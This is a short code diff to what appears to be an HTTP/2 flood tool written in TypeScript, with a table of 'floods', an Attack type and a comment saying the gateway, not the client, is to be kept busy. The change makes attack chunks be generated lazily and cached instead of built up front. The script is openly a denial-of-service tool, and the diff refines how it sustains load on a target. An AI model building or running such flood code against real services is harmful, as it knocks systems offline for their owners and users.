@@ -67,9 +67,6 @@ export const floods: Readonly<Record<string, Flood>> = {
   },
 };
 
-/** Ready-made chunks: the gateway is to be kept busy, not the client. */
-const turnsMade = 8;
-
 interface Attack {
   turn: number;
   rest: Buffer;
@@ -80,7 +77,8 @@ if (import.meta.main) {
   const flood = floods[kind!];
   if (flood === undefined) throw new Error(`there is no flood ${kind}`);
   const start = Buffer.concat([preface, settings(), flood.first ?? Buffer.alloc(0)]);
-  const chunks = Array.from({ length: turnsMade }, (_, turn) => flood.next(turn));
+  // Made once and kept: the gateway is to be kept busy, not the client.
+  const chunks: Buffer[] = [];
   let ended = 0;
   const push = (socket: Socket<Attack>): void => {
     const attack = socket.data;
@@ -91,7 +89,7 @@ if (import.meta.main) {
         attack.rest = attack.rest.subarray(taken);
         return;
       }
-      attack.rest = chunks[attack.turn] ?? flood.next(attack.turn);
+      attack.rest = chunks[attack.turn] ??= flood.next(attack.turn);
       attack.turn++;
     }
   };
